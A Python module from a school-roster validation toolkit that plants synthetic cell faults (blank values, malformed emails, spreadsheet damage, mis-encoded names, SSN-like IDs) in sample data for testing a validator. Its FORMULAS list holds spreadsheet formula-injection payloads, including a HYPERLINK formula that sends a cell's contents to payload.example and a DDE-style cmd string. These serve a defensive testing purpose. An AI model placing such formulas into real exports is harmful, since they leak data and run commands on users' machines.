"""Faults of one cell (RT101 to RT112), and what the contract says of each.

An error stands on one row: the cell in error has no vote, so that the person's other rows are not
in conflict with it. A warning that changes a value is planted on every row of its person, because
there a difference would be a conflict too.
"""

from __future__ import annotations

import re
from collections.abc import Callable

from roster_toolkit.samples.fault_planner import FaultPlanner
from roster_toolkit.samples.fault_targets import Who

#: Texts a spreadsheet leaves behind, of which a profile may know some.
DAMAGE = (
    "1.23E+05",
    "#N/A",
    "5-Mar",
    "8.8E+09",
    "#REF!",
    "Mar-5",
    "#NAME?",
    "1.2E+10",
    "#####",
    "12-Sept",
    "#CALC!",
    "5-mar-26",
    "9.1E15",
)
#: Pieces that a wrong encoding or a broken export leaves in a name.
GARBAGE = ("Ã±", "\ufffd", "â€™", "\x07", "Ã©", "Ã\u00ad", "√±", "├▒", "&#39;", "?")
#: White space and invisible characters around and inside a value.
STRAY: tuple[Callable[[str], str], ...] = (
    lambda text: f" {text}",
    lambda text: f"{text}\u00a0",
    lambda text: f"{text[:1]}\u200b{text[1:]}",
    lambda text: f"{text}  ",
    lambda text: f"\ufeff{text}",
    lambda text: f"{text[:2]}\u00ad{text[2:]}",
    lambda text: f"\u2060 {text}",
)
MALFORMED: tuple[Callable[[str, str], str], ...] = (
    lambda local, domain: f"{local}_at_{domain}",
    lambda local, domain: f"{local}@{domain.split('.')[0]}",
    lambda local, domain: f"{local}@@{domain}",
    lambda local, _: f"{local}@",
    lambda local, domain: f"{local[:2]} {local[2:]}@{domain}",
    lambda local, domain: f"{local}@{domain},",
    lambda local, domain: f"{local}..x@{domain}",
    lambda local, domain: f"ñ{local}@{domain}",
    lambda local, domain: f"{local}@{domain}.",
)
FORMULAS: tuple[Callable[[str], str], ...] = (
    lambda name: f'=HYPERLINK("https://payload.example/?q="&A2,"{name}")',
    lambda name: f"+{name}",
    lambda name: f"-{name}",
    lambda name: f"@{name}",
    lambda name: f"=1+1+cmd|'{name}'!A0",
)
_BROKEN_IDENTIFIER: tuple[Callable[[str], str], ...] = (
    lambda text: f"{text[:3]} {text[3:]}",
    lambda text: f"{text}/1",
    lambda text: f"{text[:2]}#{text[2:]}",
    lambda text: f"{text}é",
    lambda text: f"({text})",
)


def _one_cell(planner: FaultPlanner, code: str, key: str, text: str, row: int) -> bool:
    planner.write([row], key, text)
    planner.expect(code, key, [row])
    return True


def _identifiers(planner: FaultPlanner) -> list[str]:
    return [c.key for c in planner.profile.columns.values() if c.kind == "identifier"]


def missing_value(planner: FaultPlanner, turn: int) -> bool:
    """RT101: a cell that every row must fill is blank."""
    keys = [column.key for column in planner.profile.needing(lambda need: need.always)]
    row = planner.take_row()
    return row is not None and _one_cell(planner, "RT101", keys[turn % len(keys)], "", row)


def unaccepted_value(planner: FaultPlanner, turn: int) -> bool:
    """RT102: a role, grade, flag or action in other words than the accepted ones."""
    keys = [c.key for c in planner.profile.columns.values() if c.vocabulary]
    column = planner.profile.columns[keys[turn % len(keys)]]
    vocabulary = planner.profile.vocabulary_of(column)
    if vocabulary is None or (column.key == "userGrade" and not planner.has_students):
        return False
    others = [f"{vocabulary.accepts[0]} ?", "Zzz", "99"]
    for spellings in (*vocabulary.safe.values(), *vocabulary.likely.values()):
        others += spellings
    usable = [t for t in others if planner.ordinary(t) and t not in vocabulary.accepts]
    row = planner.take_row()
    return row is not None and _one_cell(
        planner, "RT102", column.key, planner.rng.choice(usable), row
    )


def malformed_email(planner: FaultPlanner, turn: int) -> bool:
    """RT103: an address that is none."""
    row = planner.take_row()
    if row is None:
        return False
    local, _, domain = planner.value(row, "userEmail").partition("@")
    return _one_cell(
        planner, "RT103", "userEmail", MALFORMED[turn % len(MALFORMED)](local, domain), row
    )


def malformed_identifier(planner: FaultPlanner, turn: int) -> bool:
    """RT104: an ID with a character that no ID may hold."""
    keys = _identifiers(planner)
    key = keys[turn % len(keys)]
    row = planner.take_row(filled=[key])
    if row is None:
        return False
    spoil = _BROKEN_IDENTIFIER[turn % len(_BROKEN_IDENTIFIER)]
    return _one_cell(planner, "RT104", key, spoil(planner.value(row, key)), row)


def stray_whitespace(planner: FaultPlanner, turn: int) -> bool:
    """RT105: the value is right once cleaned, so nothing else is said of it."""
    keys = [key for key in planner.profile.columns if key not in ("action", "primary_teacher")]
    key = keys[turn * 5 % len(keys)]
    row = planner.take_row(filled=[key])
    if row is None:
        return False
    return _one_cell(planner, "RT105", key, STRAY[turn % len(STRAY)](planner.value(row, key)), row)


def spreadsheet_damage(planner: FaultPlanner, turn: int) -> bool:
    """RT106: a spreadsheet turned the cell into a number, a date or an error."""
    patterns = planner.profile.patterns("spreadsheet_damage")
    texts = [t for t in DAMAGE if any(re.search(pattern, t) for pattern in patterns)]
    keys = [*_identifiers(planner), "userFirstName", "userGrade", "className", "userEmail"]
    if not planner.has_students:
        keys.remove("userGrade")
    row = planner.take_row() if texts else None
    return row is not None and _one_cell(
        planner, "RT106", keys[turn % len(keys)], texts[turn % len(texts)], row
    )


def rejected_domain(planner: FaultPlanner, turn: int) -> bool:
    """RT107: an address under the vendor's own domain."""
    starts = planner.profile.kinds["email"].forbidden_domains
    row = planner.take_row() if starts else None
    if row is None:
        return False
    local = planner.value(row, "userEmail").partition("@")[0]
    ending = (".com", "-schools.example", "learning.example")[turn % 3]
    domain = starts[turn % len(starts)] + ending
    return _one_cell(planner, "RT107", "userEmail", f"{local}@{domain}", row)


def ssn_like_identifier(planner: FaultPlanner, turn: int) -> bool:
    """RT108: nine digits, on every row of the person or class so that nothing is in conflict."""
    key = ("userId", "userStateId", "userDistrictId", "classId")[turn % 4]
    if key not in planner.profile.columns:
        return False
    rows = (
        planner.take_class(at_most=40)
        if key == "classId"
        else planner.take_person(*planner.anybody)
    )
    if rows is None:
        return False
    leading = {"userId": 91, "userStateId": 92, "userDistrictId": 93, "classId": 94}[key]
    planner.write(rows, key, f"{leading}{rows[0]:07d}")
    planner.expect("RT108", key, rows)
    return True


def garbled_text(planner: FaultPlanner, turn: int) -> bool:
    """RT109: a name that went through the wrong encoding, on every row of the person."""
    rows = planner.take_person(Who.SINGLE, *planner.anybody)
    if rows is None:
        return False
    key = ("userLastName", "userFirstName")[turn % 2]
    name, piece = planner.value(rows[0], key), GARBAGE[turn % len(GARBAGE)]
    planner.write(rows, key, name[:2] + piece + name[2:])
    planner.expect("RT109", key, rows)
    return True


def placeholder_value(planner: FaultPlanner, turn: int) -> bool:
    """RT110: a cell that says "nothing here" instead of being blank."""
    words = [w for w in planner.profile.words["placeholders"] if w[:1] not in set("=+-@\t")]
    addresses = [word for word in words if "@" in word]
    others = [word for word in words if "@" not in word]
    keys = ["userLastName", "userEmail", "userDistrictId", "className", "classSubject", "userId"]
    key = keys[turn % len(keys)]
    texts = addresses if key == "userEmail" else others
    row = planner.take_row() if texts else None
    if row is None or key not in planner.profile.columns:
        return False
    text = texts[turn % len(texts)]
    return _one_cell(planner, "RT110", key, text.upper() if turn % 2 else text, row)


def formula_like_value(planner: FaultPlanner, turn: int) -> bool:
    """RT111: a name that a spreadsheet would run, on every row of the person.

    A raw cell that begins with a tab is one too; cleaning takes the tab away, which is RT105.
    """
    if turn % (len(FORMULAS) + 1) == len(FORMULAS):
        row = planner.take_row()
        if row is None:
            return False
        planner.write([row], "userFirstName", "\t" + planner.value(row, "userFirstName"))
        planner.expect("RT105", "userFirstName", [row])
        planner.expect("RT111", "userFirstName", [row])
        return True
    rows = planner.take_person(Who.SINGLE, *planner.anybody)
    if rows is None:
        return False
    name = planner.value(rows[0], "userFirstName")
    planner.write(rows, "userFirstName", FORMULAS[turn % (len(FORMULAS) + 1)](name))
    planner.expect("RT111", "userFirstName", rows)
    return True


def rounded_identifier(planner: FaultPlanner, turn: int) -> bool:
    """RT112: state IDs of seventeen digits that lost two of them, of two people or more.

    Those of the whole file must agree, so that all end in zeros whatever else is planted.
    """
    key = "userStateId"
    if key not in planner.profile.columns:
        return False
    people = [planner.take_person(*planner.anybody), planner.take_person(*planner.anybody)]
    for place, rows in enumerate(people):
        if rows is not None and all(people):
            planner.write(rows, key, f"9{turn % 1000:03d}{rows[0]:09d}{place}700")
            planner.expect("RT112", key, rows)
    return all(people)
